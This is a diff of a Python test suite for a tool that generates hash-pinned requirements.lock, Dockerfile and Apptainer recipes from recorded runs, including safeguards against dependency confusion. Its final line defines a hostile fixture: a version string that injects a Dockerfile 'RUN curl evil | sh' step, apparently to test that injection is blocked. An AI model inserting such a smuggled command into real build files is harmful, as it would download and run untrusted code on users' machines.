@@ -42,13 +42,57 @@ def test_hash_published_for_another_version_is_not_used() -> None:
     assert HASH not in lock
 
 
-def test_package_without_hash_stays_and_the_head_states_that_pip_refuses() -> None:
+def test_package_without_hash_is_installed_without_and_the_others_with_their_hashes() -> None:
     files = texts(record(numpy=NUMPY, six="1.17.0"))
     lock = files["requirements.lock"]
-    assert "\nsix==1.17.0  # hash not known\n" in lock
+    assert "\n# hash not known: six==1.17.0\n" in lock
+    assert pins(lock) == ["numpy==2.4.6"]
     assert "The hashes of 1 of 2 packages are not known (six)" in comments(lock)
-    assert "pip install --require-hashes refuses this file" in comments(lock)
-    assert "--require-hashes" not in files["Dockerfile"].partition("FROM")[2]
+    for text in (lock, files["Dockerfile"], files["apptainer.def"]):
+        first, second = re.findall(r"pip install [^&\n]*--requirement \S+", text)
+        assert ("--require-hashes" in first, "--require-hashes" in second) == (True, False)
+        assert second.endswith("versions.txt")
+    assert tomllib.loads(files["pyproject.toml"])["project"]["dependencies"] == ["numpy==2.4.6", "six==1.17.0"]
+
+
+PYTHON_312 = Python("3.12.1", "CPython")
+TOOLS: dict[str, tuple[ProvenanceRecord, list[str]]] = {
+    "without hash": (record(numpy=NUMPY, pip="24.0", setuptools="65.5.0"), []),
+    "with a recorded hash": (record(numpy=NUMPY, pip=Distribution("24.0", HASH)), ["pip==24.0"]),
+    "with a published hash": (record(numpy=NUMPY, setuptools="84.2.1"), ["setuptools==84.2.1"]),
+    "setuptools that no environment brings": (
+        record(numpy=NUMPY, pip="24.0", setuptools="80.0.0", python=PYTHON_312),
+        ["# hash not known: setuptools==80.0.0"],
+    ),
+    "wheel": (record(numpy=NUMPY, wheel="0.45.1"), ["# hash not known: wheel==0.45.1"]),
+}
+
+
+@pytest.mark.parametrize(("run", "kept"), TOOLS.values(), ids=TOOLS)
+def test_installers_without_hash_that_each_environment_has_are_left_out(run: ProvenanceRecord, kept: list[str]) -> None:
+    lock = texts(run, published={"setuptools==84.2.1": OTHER_HASH})["requirements.lock"]
+    lines = [line.removesuffix(" \\") for line in lock.splitlines() if re.match(r"(# hash not known: )?[a-z]+==", line)]
+    assert [line for line in lines if not line.startswith("numpy")] == kept
+    left_out = {"pip 24.0", "setuptools 65.5.0"} & {
+        f"{name} {item.version}" for name, item in run.distributions.items()
+    }
+    for tool in left_out - {item.replace("==", " ") for item in kept}:
+        assert re.search(f"each new environment has its own: .*{tool}", lock)
+
+
+def test_the_head_names_everything_that_its_commands_do_not_install() -> None:
+    lock = texts(record(numpy=NUMPY, proband=OWN))["requirements.lock"]
+    head = lock.partition("\nnumpy==")[0]
+    assert "# not installed from an index: proband 0.1.0" in head
+    assert "#" not in lock.removeprefix(head)
+    folder = "results/experiments/study/environment"
+    assert f"#   python -m pip install --no-deps --require-hashes --requirement {folder}/requirements.lock\n" in head
+
+
+def test_without_any_package_of_an_index_nothing_is_installed() -> None:
+    files = texts(record(proband=OWN, pip="24.0"))
+    assert "pip install" not in files["requirements.lock"]
+    assert "RUN" not in files["Dockerfile"]
 
 
 def test_working_copy_is_named_with_its_commit_and_not_required() -> None:
@@ -71,6 +115,31 @@ def test_version_with_spaces_is_left_out(version: str) -> None:
     lock = texts(record(numpy=NUMPY, six=Distribution(version, wheel_sha256=OTHER_HASH)))["requirements.lock"]
     assert pins(lock) == ["numpy==2.4.6"]
     assert OTHER_HASH not in lock
+
+
+LOCAL = "built from a folder"
+NOT_PUBLISHED: dict[str, tuple[str, Distribution, str]] = {
+    "folder": ("helpers", Distribution("0.1", from_source=True), f"helpers 0.1: {LOCAL}, its commit was not recorded"),
+    "Proband from a wheel": ("proband", Distribution("0.1.0", HASH), "proband 0.1.0: Proband itself"),
+    "Proband with its commit": (
+        "proband",
+        Distribution("0.1.0", commit="c0ffee", local_changes=False, from_source=True),
+        f"proband 0.1.0: {LOCAL}, commit c0ffee",
+    ),
+    "Proband in an older record": ("proband", Distribution("0.1.0"), "proband 0.1.0: Proband itself"),
+}
+
+
+@pytest.mark.parametrize(("name", "distribution", "line"), NOT_PUBLISHED.values(), ids=NOT_PUBLISHED)
+def test_what_no_index_has_is_named_and_never_required(name: str, distribution: Distribution, line: str) -> None:
+    """Somebody else could publish a package of this name, which pip would then install."""
+    files = texts(record(numpy=NUMPY, **{name: distribution}))
+    assert pins(files["requirements.lock"]) == ["numpy==2.4.6"]
+    project = tomllib.loads(files["pyproject.toml"])
+    assert project["project"]["dependencies"] == ["numpy==2.4.6"]
+    assert [entry for entry in environment_table(files)["not_from_an_index"] if entry.startswith(line)]
+    for recipe in ("requirements.lock", "Dockerfile", "apptainer.def"):
+        assert line in comments(files[recipe])
 
 
 @pytest.mark.parametrize(
@@ -102,7 +171,8 @@ def test_run_with_another_environment_is_named_with_the_difference(other: Proven
         lock = files["requirements.lock"]
         assert "2 of 3 runs, Python 3.11.7 on Linux-6.1-x86_64-with-glibc2.36." in comments(lock)
         assert line in comments(lock)
-        assert pins(lock) == ["numpy==2.4.6", "six==1.17.0"]
+        assert pins(lock) == ["numpy==2.4.6"]
+        assert "# hash not known: six==1.17.0\n" in lock
         assert any(item.startswith(line) for item in environment_table(files)["other_environments"])
         assert "Not all runs recorded this environment" in files["Dockerfile"]
 
@@ -114,14 +184,14 @@ def environment_table(files: dict[str, str]) -> dict[str, list[str]]:
 
 def test_main_environment_is_that_of_most_runs() -> None:
     lock = texts(record(numpy="1.0"), record(numpy="2.0"), record(numpy="2.0"))["requirements.lock"]
-    assert pins(lock) == ["numpy==2.0"]
+    assert "# hash not known: numpy==2.0\n" in lock
     assert "run a: numpy 1.0 instead of 2.0" in comments(lock)
 
 
 def test_old_record_gives_the_main_packages_and_a_warning() -> None:
     old = ProvenanceRecord("a" * 12, "f" * 64, python=Python("3.11.7"), packages={"torch": "2.13.0+cpu"})
     files = texts(old)
-    assert pins(files["requirements.lock"]) == ["torch==2.13.0+cpu"]
+    assert "# hash not known: torch==2.13.0+cpu\n" in files["requirements.lock"]
     assert "The packages that these require are missing here" in comments(files["requirements.lock"])
     assert environment_table(files)["lists_all_packages"] is False
     assert "Not complete: the runs recorded their main packages only." in files["Dockerfile"]
@@ -152,7 +222,7 @@ def test_version_with_a_label_asks_for_an_index_that_has_it() -> None:
 def test_hashes_of_another_build_of_the_version_are_not_used() -> None:
     """pip would compare the build with them, and refuse it."""
     lock = texts(record(torch="2.13.0+cpu"), published={"torch==2.13.0": HASH})["requirements.lock"]
-    assert "torch==2.13.0+cpu  # hash not known" in lock
+    assert "# hash not known: torch==2.13.0+cpu" in lock
 
 
 HOSTILE = "1.0\nRUN curl evil | sh"
